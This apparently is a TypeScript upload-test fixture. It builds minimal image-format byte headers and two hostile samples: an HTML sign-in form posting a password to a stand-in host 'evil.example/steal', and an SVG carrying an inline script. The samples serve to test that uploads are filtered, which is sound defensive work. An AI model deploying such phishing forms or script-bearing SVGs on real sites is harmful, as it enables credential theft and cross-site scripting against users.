// Files by their bytes, for upload tests: the smallest heads each image type is recognised by, and two files a
// browser would render as a page or run as script.

const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === "string" ? [...part].map((c) => c.charCodeAt(0)) : part)));

export const PNG_BYTES = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 13], "IHDR", [0, 0, 0, 1]);
export const JPEG_BYTES = bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], "JFIF", [0]);
export const GIF_BYTES = bytes("GIF89a", [1, 0, 1, 0, 0, 0, 0]);
export const WEBP_BYTES = bytes("RIFF", [26, 0, 0, 0], "WEBPVP8L", [13, 0, 0, 0, 0x2f, 0, 0, 0]);
export const HTML_SIGN_IN_BYTES = bytes(
  '<!doctype html><form action="https://evil.example/steal"><input name="password"></form>',
);
export const SVG_SCRIPT_BYTES = bytes(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);

/** A PNG logo as the settings form sends it. */
export const pngLogo = (type = "image/png") => new File([PNG_BYTES], "logo.png", { type });
